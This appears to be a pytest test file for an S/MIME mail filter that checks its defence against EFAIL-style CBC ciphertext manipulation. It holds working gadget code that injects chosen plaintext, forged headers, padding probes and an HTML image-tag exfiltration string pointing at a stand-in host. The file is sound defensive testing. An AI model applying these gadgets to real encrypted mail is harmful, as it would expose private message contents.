"""EFAIL: a captured mail in AES-CBC whose blocks were moved opens for nobody, nor tells why."""

from collections.abc import Callable

import pytest
from smime_mails import (
    ENTITY,
    UNREADABLE,
    Captured,
    answered,
    cbc,
    enrolled,
    opened,
    signed_mail,
)
from smime_mails import paul as pauls

from rmp_milter.calls.protocol.calls import Reply
from rmp_milter.calls.protocol.opening import Trust
from rmp_milter.keeper.desk.desk import Desk
from testbed.outlook import Outlook

pytestmark = pytest.mark.promise(number=22)
BLOCK = 16


def xor(*octets: bytes) -> bytes:
    made = bytes(len(octets[0]))
    for each in octets:
        made = bytes(a ^ b for a, b in zip(made, each, strict=True))
    return made


class Victim:
    """Dr Paul's mail, and what an intruder knows of it: that it begins like all of Outlook's."""

    def __init__(self, outlook: Outlook, *, detached: bool) -> None:
        self.clear = outlook.signed(ENTITY, detached=detached)
        self.envelope = outlook.encrypted(self.clear)
        self.mail = Captured(self.envelope)

    def plain(self, place: int) -> bytes:
        """Return the plaintext of a block; that of the first is at 1."""
        return self.clear[(place - 1) * BLOCK : place * BLOCK]

    def gadget(self, place: int, wanted: bytes) -> list[bytes]:
        """Return two blocks: noise, and behind it what the intruder wants."""
        before, own = self.mail.blocks[place - 1 : place + 1]
        return [xor(before, self.plain(place), wanted.ljust(BLOCK)), own]


@pytest.fixture(params=[False, True], ids=["opaque", "detached"])
def victim(paul: Outlook, request: pytest.FixtureRequest) -> Victim:
    return Victim(paul, detached=request.param)


def tried(desk: Desk, victim: Victim, blocks: list[bytes]) -> Reply:
    # Sent from the victim's own account: whoever has his password has nothing more of it.
    person = enrolled(desk, pauls())
    return answered(desk, victim.mail.sent_again(blocks), person, account="carl")


def test_the_captured_mail_itself_is_opened(smime_desk: Desk, victim: Victim) -> None:
    envelope = victim.mail.sent_again(victim.mail.blocks)
    found = opened(smime_desk, envelope, enrolled(smime_desk, pauls()))
    assert found.signature.trust is Trust.GOOD


@pytest.mark.parametrize("ending", [b"\x01", b"\x02\x02", b"\x10" * 16, b"\x00", b"\x11"])
@pytest.mark.parametrize("length", range(4))
def test_nobody_is_told_whether_a_padding_is_right(
    smime_desk: Desk, paul: Outlook, ending: bytes, length: int
) -> None:
    # Behind all that counts (base64's own padding, the last part) any block of the mail is put,
    # and behind a block of choice: only the padding would decide whether the mail is opened.
    for detached in (False, True):
        mail = Victim(paul, detached=detached)
        mail.clear = paul.signed(ENTITY + b" " * length, detached=detached)
        mail.mail = Captured(paul.encrypted(mail.clear))
        wanted = (b" " * BLOCK + ending)[-BLOCK:]
        blocks = [*mail.mail.blocks, *mail.gadget(7, wanted)]
        assert tried(smime_desk, mail, blocks) == UNREADABLE


def shortened(victim: Victim) -> list[bytes]:
    return victim.mail.blocks[:-1]


def header_in_front(victim: Victim) -> list[bytes]:
    made = [xor(victim.mail.blocks[0], victim.plain(1), b"Content-Type: te")]
    made += [victim.mail.blocks[1], *victim.gadget(1, b"xt/html\r\n\r\n")]
    return [*made, *victim.mail.blocks]


def blocks_moved_in_the_header(victim: Victim) -> list[bytes]:
    blocks = victim.mail.blocks
    return [*blocks[:3], *blocks[5:8], *blocks[3:]]


def field_in_the_header(victim: Victim) -> list[bytes]:
    # The header's first line stays; noise that ends with the line becomes a field's value.
    blocks = victim.mail.blocks
    return [*blocks[:2], *victim.gadget(1, b"\r\nSubject: a\r\nX:"), *blocks[2:]]


def block_repeated_in_the_body(victim: Victim) -> list[bytes]:
    blocks = victim.mail.blocks
    return [*blocks[:60], *blocks[59:]]


def blocks_swapped_in_the_body(victim: Victim) -> list[bytes]:
    blocks = list(victim.mail.blocks)
    blocks[70], blocks[80] = blocks[80], blocks[70]
    return blocks


def image_around_the_text(victim: Victim) -> list[bytes]:
    # Direct exfiltration by what a program would load, as EFAIL has it.
    front = victim.gadget(1, b"<img src='//e/? ")
    behind = victim.gadget(1, b"' x='\r\n\r\nabcde")
    vector, *rest = victim.mail.blocks
    return [vector, *front, *behind, *rest]


def bits_in_a_body_block(victim: Victim) -> list[bytes]:
    blocks = list(victim.mail.blocks)
    blocks[90] = xor(blocks[90], b"\1" + bytes(15))
    return blocks


def behind_the_end(victim: Victim) -> list[bytes]:
    return [*victim.mail.blocks, *victim.mail.blocks[20:30]]


def nothing_but_blocks_of_the_body(victim: Victim) -> list[bytes]:
    return victim.mail.blocks[50:60]


MOVES: list[Callable[[Victim], list[bytes]]] = [
    shortened,
    header_in_front,
    blocks_moved_in_the_header,
    field_in_the_header,
    block_repeated_in_the_body,
    blocks_swapped_in_the_body,
    image_around_the_text,
    bits_in_a_body_block,
    behind_the_end,
    nothing_but_blocks_of_the_body,
]


@pytest.mark.parametrize("move", MOVES)
def test_a_moved_block_opens_nothing(
    smime_desk: Desk, victim: Victim, move: Callable[[Victim], list[bytes]]
) -> None:
    assert tried(smime_desk, victim, move(victim)) == UNREADABLE


@pytest.mark.parametrize("wanted", [b"content-type: AP", b"Subject: a\r\nX: b"])
def test_the_first_block_may_say_what_it_wants_and_nobody_reads_it(
    smime_desk: Desk, paul: Outlook, wanted: bytes
) -> None:
    # By the vector it costs no noise.
    mail = Victim(paul, detached=False)
    vector, *rest = mail.mail.blocks
    blocks = [xor(vector, mail.plain(1), wanted), *rest]
    found = tried(smime_desk, mail, blocks)
    before = opened(smime_desk, mail.envelope, enrolled(smime_desk, pauls()))
    assert (found.once, found.header) == (before.once, before.header)


def test_a_part_that_is_signed_is_the_same_act_in_whatever_envelope(smime_desk: Desk) -> None:
    person = enrolled(smime_desk, pauls())
    opaque = signed_mail(pauls())
    acts = {opened(smime_desk, cbc(opaque), person).once for _ in range(2)}
    assert len(acts) == 1
    outer = b"Subject: autre\r\nFrom: eve@x.fr\r\nTo: eve@x.fr\r\n" + opaque
    found = opened(smime_desk, cbc(outer), person)
    assert {found.once} == acts
    assert (found.protected.author, found.protected.written) == ("", 0)
